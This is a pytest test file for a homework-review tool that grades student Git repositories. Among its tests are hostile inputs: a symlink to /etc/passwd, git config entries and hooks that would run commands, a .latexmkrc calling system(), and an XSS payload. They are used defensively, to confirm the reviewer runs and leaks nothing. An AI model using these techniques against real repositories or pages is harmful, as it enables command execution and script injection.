"""`review`: what each repository must give, no more and no fewer; and that reading harms nobody."""

import csv
import importlib.util
import io
import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
import teams
from teams import ANNA, BORIS, RULES, VERA, change, commit, git, notebook, write

from kdlib import __main__ as cli
from kdlib.homework import course, sandbox
from kdlib.homework.review import (
    cells,
    clock,
    cohort,
    executed,
    findings,
    kit,
    needs,
    packages,
    page,
    reviewing,
    running,
    stored,
)
from kdlib.homework.review.findings import FLAGS, GREEN, NOTE, RED
from kdlib.homework.review.reviewing import Failed, Options
from kdlib.records import Run

needs_copydetect = pytest.mark.skipif(
    importlib.util.find_spec("copydetect") is None,
    reason="copydetect not installed: pip install 'kdlib[review]'",
)
# What a good repository gives, read only.
STATES = dict.fromkeys(FLAGS, GREEN) | dict.fromkeys(
    ("reproducibility", "similarity", "notebooks", "exercises", "page_limit"), NOTE
)


@pytest.fixture(scope="session")
def finished(tmp_path_factory):
    return teams.good(tmp_path_factory.mktemp("teams") / "good")


@pytest.fixture(scope="session")
def given():
    return kit.read()


@pytest.fixture
def team(finished, tmp_path):
    """A copy of the good repository, to spoil."""
    return Path(shutil.copytree(finished, tmp_path / "team"))


@pytest.fixture
def look(given):
    """look(path) reviews a repository; read only, unless told otherwise."""

    def review(path, **options):
        options = {"run": False, "course": RULES, "kit": given, "seed": 1} | options
        return reviewing.review(Path(path), Path(path).name, Options(**options))[0]

    return review


def states(found):
    return {flag: found.state(flag) for flag in FLAGS}


def reds(found):
    return [(one.flag, one.where) for one in found.findings if one.severity == RED]


# The good one, and one for each red flag


def test_a_good_repository_has_no_red_flag(look, finished):
    found = look(finished)
    assert states(found) == STATES and list(found.answers) == list(FLAGS)
    assert found.members == tuple(name for name, _ in (ANNA, BORIS, VERA))
    shares = next(one for one in found.findings if one.flag == "contributions").evidence
    assert all(name in shares for name in found.members)


def emptied(section):
    def spoil(folder):
        text = (folder / "report.typ").read_text("utf-8")
        head = f'#section("{section}")\n'
        start = text.index(head) + len(head)
        write(folder, "report.typ", text[:start] + "TODO\n" + text[text.index("#section", start) :])

    return spoil


def replaced(name, old, new):
    return lambda folder: change(folder, name, old, new)


def written(name, text):
    return lambda folder: write(folder, name, text)


def five_members(folder):
    text = (folder / "team.toml").read_text("utf-8")
    more = ""
    for name in ("Gleb", "Dina"):
        more += f'[[members]]\nname = "{name}"\ngit = ["{name.lower()}@example.org"]\n'
        more += f'items = ["the part of {name}"]\nsections = ["method"]\n\n'
        write(
            folder, f"{name}.py", f"def of_{name}():\n    return 1\n", (name, f"{name}@example.org")
        )
    write(folder, "team.toml", text.replace("# Code that is not", more + "# Code that is not"))
    teams.again(folder)


def one_did_all(folder):
    lines = "\n".join(f"measured_{number} = {number} ** 2" for number in range(600))
    write(folder, "everything.py", lines)


def nothing_by_vera(folder):
    text = (folder / "team.toml").read_text("utf-8")
    write(folder, "team.toml", text.replace("vera@example.org", "vera@elsewhere.example"))


def few_items(folder):
    text = (folder / "team.toml").read_text("utf-8")
    text = re.sub(r"(?s)items = \[.*?\n\]", 'items = ["KD"]', text)
    write(folder, "team.toml", text)
    teams.again(folder)


def edited_results(folder):
    path = folder / "generated" / "results.json"
    text = path.read_text("utf-8")
    value = re.search(r'"comparison\.kd\.accuracy\.mean": \{"text": "([\d.]+)"', text)[1]
    write(folder, "generated/results.json", text.replace(f'"{value}"', '"99.9"', 1))


def linked(target):
    def spoil(folder):
        (folder / "link").symlink_to(target)
        commit(folder)

    return spoil


def large_file(folder):
    (folder / "weights.bin").write_bytes(b"0" * (21 * 10**6))
    commit(folder)


ONE = {
    "five members": (five_members, "team_size"),
    "one member did everything": (one_did_all, "contributions"),
    "a member without commits": (nothing_by_vera, "contributions"),
    "one item for three": (few_items, "tasks"),
    "a typed percentage": (
        replaced(
            "report.typ", '#section("conclusions")\n', '#section("conclusions")\nIt has 92.7 %. '
        ),
        "unbound_numbers",
    ),
    "a citation without an entry": (
        replaced("report.typ", '#section("related")\n', '#section("related")\nSee @nobody2020. '),
        "sources",
    ),
    "a foreign file": (
        written("losses.py", "# Copyright (c) 2019 Yonglong Tian\nloss = 1\n"),
        "sources",
    ),
    "a source without a link": (
        replaced("team.toml", 'en = "MLxtend (Raschka 2018)"', 'en = "the web"'),
        "sources",
    ),
    "no failures": (emptied("failures"), "failed_attempts"),
    "no conclusions": (emptied("conclusions"), "conclusions"),
    "a figure nobody refers to": (
        replaced("report.typ", "@figure-temperature shows", "It shows"),
        "figures",
    ),
    "a conftest": (written("tests/conftest.py", "import pytest\n"), "tampering"),
    "a configuration of pytest": (
        written("pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-x'\n"),
        "tampering",
    ),
    "a kdlib of their own": (written("kdlib/__init__.py", "__version__ = '1'\n"), "tampering"),
    "a program for LaTeX": (written(".latexmkrc", "system('true');\n"), "tampering"),
    "another layout": (
        replaced("kdreport.typ", "#let made", "#let nothing = 1\n#let made"),
        "tampering",
    ),
    "a link out of the tree": (linked("../../etc/passwd"), "tampering"),
    "an enormous file": (large_file, "tampering"),
    "edited numbers": (edited_results, "tampering"),
    "cleared outputs": (written("a.ipynb", notebook(("print(1)", None, "", []))), "notebooks"),
    "cells out of order": (
        written("a.ipynb", notebook(("print(1)", 2, "1\n", []), ("print(2)", 1, "2\n", []))),
        "notebooks",
    ),
    "a hidden cell": (
        written("a.ipynb", notebook(("# NBVAL_SKIP\nprint(1)", 1, "99\n", []))),
        "notebooks",
    ),
}


@pytest.mark.parametrize("case", ONE)
def test_one_red_flag_and_no_other(case, team, look):
    spoil, flag = ONE[case]
    spoil(team)
    expected = STATES | {flag: RED}
    found = look(team)
    assert states(found) == expected, [one for one in found.findings if one.severity == RED]
    assert sum(one.severity == RED for one in found.findings) == 1 or case == "one item for three"


def test_two_red_flags_are_both_told(team, look):
    ONE["no conclusions"][0](team)
    ONE["a conftest"][0](team)
    assert reds(look(team)) == [
        ("tampering", "tests/conftest.py"),
        ("conclusions", "report.typ:132"),
    ]


def another_record(folder):
    path = next((folder / "runs" / "comparison").glob("kd-*.json"))
    content = json.loads(path.read_text())
    content["metrics"]["accuracy"] += 0.5
    path.write_text(json.dumps(content))


def test_an_edit_is_not_hidden_by_a_changed_record(team, look):
    another_record(team)
    edited_results(team)
    (told,) = [one for one in look(team).findings if one.severity == RED]
    assert told.flag == "tampering" and "'comparison.kd.accuracy.mean' was edited" in told.evidence
    assert "lines of `report --check`" in told.evidence and "\\x" not in told.evidence

    report = json.loads((team / "generated/results.json").read_text("utf-8"))
    report["results"]["comparison.at.accuracy.mean"] |= {"text": "99.9", "mean": 99.9}
    write(team, "generated/results.json", json.dumps(report, ensure_ascii=False))
    found = look(team)
    table = found.answers["tampering"].tables[0]
    rows = {row[0]: row[1:] for row in table.rows}
    assert rows["comparison.at.accuracy.mean"][0] == "99.9"
    assert rows["comparison.kd.accuracy.mean"] != rows["comparison.kd.accuracy"]
    content = json.loads(reviewing.as_json(found))
    assert content["details"]["tampering"]["tables"][0]["rows"]
    others = json.dumps(content["details"]["tampering"]["tables"][1:])
    assert "was made from other records" in others and "\\\\x" not in others


def test_the_line_of_an_edited_number_is_told(team, look):
    edited_results(team)
    ((_, where),) = reds(look(team))
    line = (team / "generated/results.json").read_text("utf-8").splitlines()
    assert where.startswith("generated/results.json:")
    assert "comparison.kd.accuracy.mean" in line[int(where.split(":")[1]) - 1]


def test_numbers_that_equal_a_key_are_told_with_it(team, look):
    from kdlib.homework import report

    value = report.read(team, RULES).results.values["comparison.kd.accuracy.mean"]
    number = f"{value.mean:.2f}"
    change(
        team,
        "report.typ",
        '#section("conclusions")\n',
        f'#section("conclusions")\nIt is {number}. ',
    )
    (told,) = [one for one in look(team).findings if one.severity == RED]
    assert told.flag == "unbound_numbers" and "comparison.kd.accuracy.mean" in told.evidence


def settings_recorded(folder, **values):
    """Records that hold these settings."""
    for path in (folder / "runs").rglob("*.json"):
        content = json.loads(path.read_text())
        content["config"] |= values
        path.write_text(json.dumps(content))
    teams.again(folder)


def test_each_typed_decimal_is_judged_by_one_rule(team, look):
    from kdlib.homework import report

    settings_recorded(team, lr=0.0125)
    own = report.read(team, RULES).results.values["comparison.kd.accuracy.mean"].mean
    text = f"""
The distilled network of @hinton2015 has 98.54 % on MNIST, Fig. 3 says. It reached an accuracy of
0.4321 at the rate 0.0125 here. The figure @figure-temperature shows 12.5 points. We also tried 0.7.
In print it was 61.5 ± 0.2 %. @tian2020 Another gained 1.7 percent; the
rate 0.0125 again. @zhao2022 say something else. As in @hinton2015 it is {own:.3f}.

- Of our gain 3.25~% is luck
- the rest is not @hinton2015.
"""
    start = '#section("conclusions")\n'
    change(team, "report.typ", start, start + text)
    found = {
        one.evidence.split()[0]: one for one in look(team).findings if one.flag == "unbound_numbers"
    }
    states = {name: (one.severity, one.evidence.split(" ", 1)[1]) for name, one in found.items()}
    by_hand = "is typed by hand; no key has this value"
    assert {name: states[name] for name in states if name not in ("0.9", "0.2", "0.05", "0.1")} == {
        "98.54": (NOTE, "stands in a sentence that cites hinton2015"),
        "0.4321": (RED, by_hand),
        "0.0125": (NOTE, "is a setting of the team's records: lr"),
        "12.5": (RED, by_hand),
        "0.7": (NOTE, "is typed by hand, with no sign that it was measured"),
        "61.5": (NOTE, "stands in a sentence that cites tian2020"),
        "1.7": (RED, by_hand),
        f"{own:.3f}": (RED, "is typed by hand; it equals comparison.kd.accuracy.mean"),
        "3.25": (RED, by_hand),
    }
    line = (team / "report.typ").read_text("utf-8").split("an accuracy of\n")[0].count("\n") + 2
    assert found["0.0125"].where == f"report.typ:{line}, report.typ:{line + 2}"


def test_settings_are_all_numbers_of_a_recipe_however_deep():
    from kdlib.homework.review import numbers

    deep = 0.375
    for _ in range(5000):
        deep = [deep]
    repeat = {"kwargs": {"rate": 0.05, "on": True, "deep": deep, "huge": 10**400}}
    run = Run("e", "KD, T=2.5", 0, {"student": "MLP(0.25)"}, repeat=repeat)
    used = numbers.settings([run])
    assert {used[0.05], used[0.375], used[0.25]} == {"rate", "deep", "student"} and 2.5 in used
    assert 1.0 not in used


def test_labels_and_shown_code_of_typst_are_no_citations(tmp_path):
    from kdlib.homework import checks, sources

    (tmp_path / "parts").mkdir()
    (tmp_path / "parts" / "inner.typ").write_text("@rate <inner>", "utf-8")
    (tmp_path / "parts" / "one.typ").write_text('#include "inner.typ"', "utf-8")
    (tmp_path / "report.typ").write_text(
        """#include "parts/one.typ"
See @fig-a, @fig:b[Figure]. @рис-1; @fig-c, @eq-1: @inner and @fig-lost. @nobody2020
#figure(image("a//b.png"), caption: [see https://example.org/a]) <fig-a>
#figure(
  image("*/*.png"),
) <fig:b>
#figure(image("c.png"))<рис-1>
#figure(image("c.png"))#label("fig-c")
$ x $ <eq-1> // @comment
`@shown` and
```python
@torch.no_grad()
```
""",
        "utf-8",
    )
    found = sources.read(tmp_path / "report.typ")
    assert [name for name, _ in found.cited] == ["rate", "fig-lost", "nobody2020"]
    assert found.cited[0].place == "parts/inner.typ:1"
    assert [one.name for one in found.figures] == ["fig-a", "fig:b", "рис-1", "fig-c"]
    assert {"fig-a", "fig:b", "рис-1", "fig-c"} <= found.referred
    (told,) = checks.uncited(found, {"rate"})
    assert "'nobody2020' is cited" in told
    (told,) = checks.unlabelled(found, None, {"rate"})
    assert told.startswith("report.typ:2: nothing carries the label 'fig-lost'")


@pytest.mark.parametrize(
    "part",
    [
        "\n",
        "/* ",
        "``` x ",
        "#figure(",
        "1.5 [1.",
        ". @a.a ",
        "\\begin{figure}",
        "\\cite[",
        "\\label{",
    ],
)
def test_no_text_takes_long_to_read(part, tmp_path):
    from kdlib.homework import sources

    for name in ("report.typ", "report.tex"):
        (tmp_path / name).write_text(part * (300_000 // len(part)))
        start = time.process_time()
        sources.read(tmp_path / name)
        assert time.process_time() - start < 10, "minutes, where time grows with the square"


LATEX = r"""\documentclass{article}
\usepackage{graphicx}
\begin{document}
\begin{figure}\includegraphics[width=0.5\textwidth]{a}\caption{A}\label{fig:a}\end{figure}
\section{Что не получилось}
We tried attention transfer, and it did not help at all.
\section{Conclusions and outlook}
Distillation helps a small network (Figure~\ref{fig:a}) more than smoothing does.
\end{document}
"""


def test_a_report_without_the_layout_of_the_kit_is_read(team, look):
    for path in team.glob("report*.typ"):
        path.unlink()
    write(team, "report.tex", LATEX)
    assert states(look(team)) == STATES
    change(team, "report.tex", "(Figure~\\ref{fig:a}) ", "")
    change(team, "report.tex", "We tried attention transfer, and it did not help at all.", "")
    assert {flag for flag, _ in reds(look(team))} == {"figures", "failed_attempts"}


def test_the_text_of_the_starter_is_nobodys(team, look):
    for old, new in teams.OWN.items():
        change(team, "report.typ", new, old)
    found = look(team)
    assert [flag for flag, _ in reds(found)] == ["conclusions", "failed_attempts"]
    assert found.state("figures") == NOTE
    told = {one.flag: one.evidence for one in found.findings if "the starter's" in one.evidence}
    assert told["failed_attempts"] == "section 'failures' is the starter's text, unchanged"
    assert told["figures"] == "the starter's figure, with its caption: figure-temperature"
    assert "introduction, related" in told["conclusions"]


# What cannot be reviewed, and what is not there


def test_what_is_no_repository_or_empty_is_told_in_one_line(
    finished, tmp_path, capsys, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "plain").mkdir()
    git(tmp_path, "init", "-q", "empty")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / ".git").write_text(f"gitdir: {tmp_path / 'empty' / '.git'}\n")
    shutil.copytree(finished, "borrowed")
    (tmp_path / "borrowed/.git/objects/info/alternates").write_text(f"{finished}/.git/objects\n")
    shutil.copytree(finished, "linked")
    shutil.rmtree("linked/.git/objects")
    (tmp_path / "linked/.git/objects").symlink_to(finished / ".git/objects")
    for name, reason in {
        "borrowed": "borrows objects",
        "linked": "borrows objects",
        "plain": "is no Git repository",
        "empty": "has no commit",
        "absent": "is no folder",
        "elsewhere": "points elsewhere",
    }.items():
        assert cli.main(["review", name, "--no-run"]) == 2
        said = capsys.readouterr().err
        assert reason in said and said.count("\n") == 1, said
    assert not (tmp_path / "review.html").exists()


def test_without_team_toml_the_commits_say_who_there_is(team, look):
    (team / "team.toml").unlink()
    commit(team)
    found = look(team)
    assert set(found.members) == {name for name, _ in (ANNA, BORIS, VERA)}
    assert [flag for flag, _ in reds(found)] == ["tasks"]


def test_a_team_toml_that_cannot_be_read_accuses_nobody(team, look):
    one_did_all(team)
    change(team, "team.toml", "homework = 1", "homework = one")
    for number in range(3):
        write(team, f"n{number}.py", "x = 1\n", (f"Alias {number}", f"{number}@laptop"))
    found = look(team)
    line = (team / "team.toml").read_text("utf-8").split("homework = one")[0].count("\n") + 1
    assert reds(found) == [("tasks", f"team.toml:{line}")]
    for flag in ("contributions", "team_size"):
        (told,) = found.answers[flag].findings
        assert told.severity == NOTE and "team.toml could not be read" in told.evidence


def test_a_broken_file_is_a_finding_and_no_traceback(team, look):
    write(team, "team.toml", "team = [" + "[" * 5000)
    write(team, "a.ipynb", "[" * 100_000)
    write(
        team, "b.ipynb", json.dumps({"cells": [{"cell_type": "code", "outputs": 3, "source": 5}]})
    )
    path = next((team / "runs").rglob("*.json"))
    write(team, str(path.relative_to(team)), "{")
    found = look(team)
    assert {flag for flag, _ in reds(found)} == {"tasks", "notebooks", "reproducibility"}
    write(team, "report.typ", "\udcff".encode("utf-8", "surrogateescape").decode("latin-1"))
    assert look(team)


def test_cyrillic_names_and_paths(finished, tmp_path, look):
    folder = Path(shutil.copytree(finished, tmp_path / "Команда № 1"))
    change(folder, "team.toml", 'language = "en"', 'language = "ru"')
    teams.again(folder)
    write(folder, "опыты/шум.py", "def шум(уровень):\n    return уровень * 2\n", VERA)
    found = look(folder)
    assert states(found) == STATES
    assert found.members == ("Анна Примерова", "Борис Образцов", "Вера Шаблонова")
    text = page.of_review(found, RULES, "ru")
    assert "Вклад участников" in text and "опыты/шум.py" in text and 'lang="ru"' in text


# Who did what


def works(look, team):
    table = look(team).answers["contributions"].tables[0]
    return {row[0]: (int(row[1]), float(row[2])) for row in table.rows}


def test_coauthors_count_and_mailmap_joins_addresses(team, look):
    before = works(look, team)
    git(team, "commit", "-q", "--allow-empty", "-m",
        "together\n\nCo-authored-by: Boris Obraztsov <boris@example.org>", by=VERA)  # fmt: skip
    write(team, "late.py", "late = 1\nlater = 2\n", ("Old", "old@laptop"))
    after = works(look, team)
    assert after["Boris Obraztsov"][0] == before["Boris Obraztsov"][0] + 1
    assert after["Old (nobody of team.toml)"] == (1, 2)
    told = [one.evidence for one in look(team).findings if one.flag == "contributions"]
    assert any(one.startswith("1 commit with 2 new source lines") for one in told)
    write(team, ".mailmap", "Anna Primerova <anna@example.org> <old@laptop>\n")
    joined = works(look, team)
    assert len(joined) == 3 and joined["Anna Primerova"][1] == before["Anna Primerova"][1] + 2


def test_lines_of_several_authors_are_shared(team, look):
    before = works(look, team)
    (team / "pair.py").write_text("first = 1\nsecond = 2\nthird = 3\n")
    commit(team, "ours\n\nCo-authored-by: Boris Obraztsov <boris@example.org>", VERA)
    after = works(look, team)
    gained = {name: after[name][1] - before[name][1] for name, _ in (ANNA, BORIS, VERA)}
    assert gained == {"Anna Primerova": 0, "Boris Obraztsov": 1.5, "Vera Shablonova": 1.5}


def test_a_link_is_no_source_line(team, look):
    before = works(look, team)
    (team / "linked.py").symlink_to("part_0.py")
    commit(team, "a link", BORIS)
    after = works(look, team)["Boris Obraztsov"]
    assert after == (before["Boris Obraztsov"][0] + 1, before["Boris Obraztsov"][1])


def test_only_new_source_lines_count(team, look):
    before = works(look, team)["Boris Obraztsov"][1]
    outputs = notebook(("a = 1\nb = 2", 1, "3\n" * 500, []))
    write(team, "b.ipynb", outputs, BORIS)
    write(team, "runs/x.txt", "line\n" * 500, BORIS)
    write(team, "generated/x.py", "line = 1\n" * 500, BORIS)
    git(team, "mv", "part_1.py", "moved.py")
    commit(team, "moved", BORIS)
    write(team, "moved.py", teams.WORK[BORIS].replace("    ", "        "), BORIS)
    assert works(look, team)["Boris Obraztsov"][1] == before + 2


def test_the_kits_own_lines_are_nobodys_work(look, finished):
    first = git(finished, "rev-list", "--max-parents=0", "HEAD").strip()
    assert "report.typ" in git(finished, "show", "--stat=200", first)
    files = {row[0]: row[1:] for row in look(finished).answers["contributions"].tables[1].rows}
    assert files["report.typ"] == ("–", "–", str(len(teams.OWN)))


# Stored notebooks


@pytest.mark.parametrize(
    "source, tags",
    [
        ("#NBVAL_IGNORE_OUTPUT", []),
        ("x = 1\n  ## NBVAL_SKIP", []),
        ("# PYTEST_VALIDATE_IGNORE_OUTPUT", []),
        ("1", ["nbval-skip"]),
        ("1", ["nbval-ignore-output"]),
        ("1", ["skip-execution"]),
        ("1", ["raises-exception"]),
    ],
)
def test_every_spelling_of_a_marker_is_seen(source, tags):
    (cell,) = cells.read(notebook((source, 1, "", tags)).encode())
    assert stored.markers(cell)


def test_no_other_text_is_taken_for_a_marker():
    (cell,) = cells.read(notebook(("# we skip nbval here\nNBVAL = 1", 1, "", ["prose:x"])).encode())
    assert not stored.markers(cell)


def test_a_cleared_copy_of_the_courses_is_work_to_do(team, look):
    from kdlib.engine import notebooks

    original = next(notebooks.FOLDER.glob("02_*.ipynb"))
    content = json.loads(original.read_text("utf-8"))
    for cell in content["cells"]:
        if cell["cell_type"] == "code":
            cell |= {"outputs": [], "execution_count": None}
    write(team, "mine/02.ipynb", json.dumps(content), BORIS)
    found = look(team)
    assert states(found) == STATES
    (told,) = found.answers["exercises"].findings
    assert re.fullmatch(r"\d exercises not checked: nothing was run \(--no-run\)", told.evidence)
    assert told.where == "mine/02.ipynb" and "solved" not in told.evidence
    write(team, "own.ipynb", notebook(("print(1)", None, "", [])))
    assert reds(look(team)) == [("notebooks", "own.ipynb")]


# Nothing of a team's runs while it is read, and nothing of it reaches the page as a program


def test_git_starts_nothing_that_the_repository_names(team, look, tmp_path):
    mark = tmp_path / "ran"
    program = f"touch '{mark}'"
    for name, value in {
        "core.fsmonitor": program, "core.pager": program, "diff.external": program,
        "filter.x.clean": program, "filter.x.smudge": program, "diff.x.textconv": program,
        "uploadpack.packObjectsHook": program, "core.hooksPath": str(tmp_path / "hooks"),
    }.items():  # fmt: skip
        git(team, "config", name, value)
    hook = tmp_path / "hooks" / "post-checkout"
    hook.parent.mkdir()
    hook.write_text(f"#!/bin/sh\n{program}\n")
    hook.chmod(0o755)
    (team / ".gitattributes").write_text("*.py filter=x diff=x\n")
    (team / "part_0.py").write_text("changed = 1\n")
    look(team)
    assert not mark.exists(), "and the files of the team are as they were"
    git(team, "status")
    assert mark.exists(), "Git itself would have started it"


def test_links_and_names_lead_nowhere(team, look):
    secret = team.parent / "secret.py"
    secret.write_text("password = 1\n")
    (team / "inside.py").symlink_to("part_0.py")
    (team / "outside.py").symlink_to(secret)
    (team / "folder").symlink_to(team.parent)
    commit(team)
    found = look(team)
    assert {where for _, where in reds(found)} == {"outside.py", "folder"}
    assert "password" not in reviewing.as_json(found)


def test_text_of_a_team_is_escaped_and_the_page_runs_nothing(team, look):
    evil = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    change(team, "team.toml", '"Three small students"', f'"{evil}"')
    write(team, "<b>.py", "x = 1\ny = 2\nz = 3\n")
    write(team, "tests/conftest.py", evil)
    text = page.of_review(look(team), RULES, "en")
    assert "<script" not in text and "<img" not in text and "<b>.py" not in text
    assert "&lt;script&gt;" in text
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', text)[1]
    assert policy.startswith("default-src 'none'; style-src 'sha256-") and "unsafe" not in policy
    assert not re.search(r"<\w+ [^<>]*(?:src|href)=(?!.#)", text), "nothing is loaded"


def test_invisible_signs_do_not_reach_the_page():
    told = findings.Finding("tasks", NOTE, "a\u202eb\x00\x1b[31m", "c\u200bd")
    text = page._finding(told)
    assert not set(text) & set("\u202e\x00\x1b\u200b")


# What runs


def few(**values):
    from dataclasses import replace

    return replace(RULES, review=replace(RULES.review, **values))


def test_records_repeat_and_an_edited_one_does_not(team, look):
    rules = few(repeats=3)
    found = look(team, run=True, trust=True, course=rules)
    assert states(found) == STATES | {"reproducibility": GREEN, "page_limit": GREEN}
    rows = found.answers["reproducibility"].tables[0].rows
    assert {row[0].split("/")[0] for row in rows} == {"teacher", "comparison", "temperature"}
    assert all(row[2] == row[3] for row in rows)
    for path in (team / "runs").rglob("*.json"):
        content = json.loads(path.read_text())
        content["metrics"]["accuracy"] += 5
        path.write_text(json.dumps(content))
    teams.again(team)
    worse = look(team, run=True, trust=True, course=few(repeats=1))
    assert {flag for flag, _ in reds(worse)} == {"reproducibility"}
    assert [one.flag for one in worse.findings if "differs" in one.evidence] == ["reproducibility"]


def test_a_text_that_is_too_long(team, look):
    change(team, "report.typ", '#section("conclusions")\n',
           '#section("conclusions")\n#lorem(9000)\n')  # fmt: skip
    found = look(team, run=True, trust=True, budget=0.01)
    assert [flag for flag, _ in reds(found)] == ["page_limit"]
    assert states(found)["reproducibility"] == NOTE, "no time is a note"


def test_an_exercise_stored_as_correct_is_checked_again(team, look):
    source = "from kdlib.check import check\n\n\ndef cost(sizes):\n    return 1, 2\n"
    source += '\n\ncheck("1.1", cost)'
    made = json.loads(notebook((source, 1, "correct: 1.1 cost\n", [])))
    (output,) = made["cells"][0]["outputs"]
    output |= {"output_type": "display_data", "data": {"text/plain": "correct: 1.1 cost"}}
    line = {"name": "1.1", "state": "correct", "line": "correct: 1.1 cost"}
    output["metadata"] = {"kdlib": {"check": line}}
    del output["text"], output["name"]
    write(team, "mine/01.ipynb", json.dumps(made), BORIS)
    found = look(team, run=True, trust=True, course=few(repeats=1))
    wanted = {("exercises", "mine/01.ipynb"), ("reproducibility", "mine/01.ipynb")}
    assert set(reds(found)) == wanted
    (table,) = found.answers["exercises"].tables
    assert table.rows == (("mine/01.ipynb", "Boris Obraztsov", "0", "1", "0"),)


def sampled(look_at, team, given, seconds, **values):
    from kdlib.homework.review import handed_in

    with handed_in.copied(team, few(**values), given) as copy:
        runs = list(copy.runs.values())
        return running.chosen(look_at(runs), copy, seconds, 7)


def test_the_sample_is_stratified_and_fits_the_time(team, given):
    def of(runs):
        return runs

    many = sampled(of, team, given, 600.0)
    assert len(many) == RULES.review.repeats and all(epochs is None for _, epochs in many)
    counts = [run.experiment for run, _ in many]
    assert {counts.count(name) for name in set(counts)} == {2}
    assert len(sampled(of, team, given, 20.0)) == 3, "six seconds each"
    assert [run.seed for run, _ in many] == [run.seed for run, _ in sampled(of, team, given, 600.0)]


def test_runs_of_a_gpu_are_tried_by_their_first_epochs(team, given):
    def long(runs):
        for run in runs:
            run.seconds, run.history = 3600.0, [{"loss": 1.0}] * 240
            run.versions = run.versions | {"accelerator": "a large one"}
        return runs

    found = sampled(long, team, given, 1000.0)
    assert [epochs for _, epochs in found] == [2], "an epoch is 450 s here"
    assert sampled(long, team, given, 100.0) == []


def test_records_leave_time_to_the_notebooks(team, given, monkeypatch):
    from kdlib.homework.review import handed_in

    for name in ("a", "b"):
        write(team, f"{name}.ipynb", notebook(("print(1)", 1, "1\n", [])))
    given_to = {"records": [], "notebooks": []}

    def repeat(handed_in, path, epochs, most, watch):
        given_to["records"].append(most)
        return None, None

    def again(name, tree, *, limits, trust, packages):
        given_to["notebooks"].append(limits.seconds)
        return sandbox.Finished(0, "", "", "")

    now = [0.0]
    monkeypatch.setattr(clock, "time", SimpleNamespace(monotonic=lambda: now[0]))
    monkeypatch.setattr(running, "_repeat", repeat)
    monkeypatch.setattr(executed.untrusted, "run_notebook", again)
    with handed_in.copied(team, few(notebooks=40), given) as copy:
        watch = clock.Clock(True, True, 1000.0, 7)
        found = running.reproducibility(copy, watch)
        now[0] = 580.0
        late = running.reproducibility(copy, watch)
    assert given_to["records"] == [600.0] * 6 + [20.0] * 6
    assert given_to["notebooks"] == [500.0, 1000.0, 210.0, 420.0]
    wanted = [("a.ipynb", GREEN), ("b.ipynb", GREEN)]
    for answer in (found, late):
        told = [(one.where, one.severity) for one in answer.findings]
        assert [one for one in told if one[0].endswith(".ipynb")] == wanted


def test_a_notebook_that_needs_a_package_is_excused_if_that_is_declared(team, given, monkeypatch):
    from kdlib.homework.review import handed_in

    def again(name, tree, *, limits, trust, packages):
        said = "E ModuleNotFoundError: No module named 'nowhere_x'\nFAILED a.ipynb::Cell 0\n"
        return sandbox.Finished(1, said, "", "")

    monkeypatch.setattr(executed.untrusted, "run_notebook", again)
    write(team, "a.ipynb", notebook(("import nowhere_x\nprint(1)", 1, "1\n", [])))
    for severity, told in ((RED, "ask the team"), (NOTE, "--only-binary=:all: nowhere-x`")):
        with handed_in.copied(team, RULES, given) as copy:
            (found,) = executed.again(copy, ["a.ipynb"], clock.Clock(True, True, 100.0, 7))
        assert (found.severity, found.where) == (severity, "a.ipynb") and told in found.evidence
        write(team, "requirements.txt", "torch\nnowhere-x\n")


TRAINING = """
from functools import partial

from kdlib import data, experiments, models

digits = data.load("mnist-5k", size=14)
experiments.compare(
    {"small": {}}, student=partial(models.MLP, (8,), in_features=196), train=digits.train,
    evaluate_on=digits.validation, seeds=[0], epochs=2, experiment="long", folder="runs", workers=1,
)
"""


def test_the_first_epochs_are_repeated_where_the_whole_is_too_long(team, look):
    shutil.rmtree(team / "runs")
    teams.run(team, TRAINING)
    (path,) = (team / "runs").rglob("*.json")
    content = json.loads(path.read_text())
    content["seconds"] = 4000.0
    path.write_text(json.dumps(content))
    commit(team)
    found = look(team, run=True, trust=True, budget=35)
    told = [one for one in found.findings if one.flag == "reproducibility"]
    assert [one.severity for one in told] == [GREEN, NOTE], told
    assert "so only 1 of its epochs ran" in told[1].evidence
    names = {row[1] for row in found.answers["reproducibility"].tables[0].rows}
    assert names and all(name.startswith("epoch 1, ") for name in names)


def test_without_a_sandbox_nothing_runs(team, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sandbox, "probe", lambda: "none is installed")
    assert cli.main(["review", str(team)]) == 2
    said = capsys.readouterr().err
    assert "none is installed" in said and "--trust" in said and "--no-run" in said
    assert not (tmp_path / "review.html").exists()


CONFINED = sandbox.probe()


@pytest.mark.skipif(bool(CONFINED), reason=f"no sandbox here: {CONFINED}")
def test_what_runs_is_confined_and_may_not_excuse_itself(team, look, tmp_path):
    mark = tmp_path / "mark"
    head = "def measure(name, seed):\n"
    change(team, "measuring.py", head, f"{head}    open({str(mark)!r}, 'w').close()\n")
    found = look(team, run=True, course=few(repeats=1))
    assert not mark.exists()
    assert [flag for flag, _ in reds(found)] == ["reproducibility"]
    assert states(found)["page_limit"] == GREEN, "the report was built in the sandbox"


def wheel(folder, name, module):
    """Write a wheel of one module."""
    info = f"{name.replace('-', '_')}-1.0.dist-info"
    files = {f"{module}.py": "NAME = 'theirs'\n"} | {
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }  # fmt: skip
    files[f"{info}/RECORD"] = "".join(f"{one},,\n" for one in [*files, f"{info}/RECORD"])
    with zipfile.ZipFile(
        folder / f"{info.removesuffix('.dist-info')}-py3-none-any.whl", "w"
    ) as made:
        for path, text in files.items():
            made.writestr(path, text)


@pytest.fixture
def index(tmp_path, monkeypatch):
    """A folder that pip takes for the package index."""
    folder = tmp_path / "index"
    folder.mkdir()
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", str(folder))
    return folder


@pytest.mark.skipif(bool(CONFINED), reason=f"no sandbox here: {CONFINED}")
def test_what_a_team_declares_is_installed_for_the_sandbox_alone(team, look, index):
    wheel(index, "nowhere-x", "nowhere_x")
